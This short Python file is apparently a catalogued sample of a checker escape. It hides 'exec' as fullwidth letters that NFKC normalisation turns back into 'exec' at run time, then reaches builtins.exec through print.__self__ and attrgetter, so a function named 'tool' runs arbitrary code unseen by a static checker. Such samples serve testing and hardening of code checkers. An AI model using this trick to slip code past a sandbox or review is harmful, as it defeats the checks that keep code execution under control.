# family: NFKC identifiers
# escape: the attribute name is written in fullwidth letters and only becomes "exec" at run time through
# unicodedata.normalize; the attrgetter class (type() of an attrgetter) then looks it up on builtins, which the
# checker never inspects.
import operator
import unicodedata

def tool(code: str, a: str = "self"):
    getter = type(operator.attrgetter("real"))
    name = unicodedata.normalize("NFKC", "__" + a + "__.ｅｘｅｃ")
    return getter(name)(print)(code)
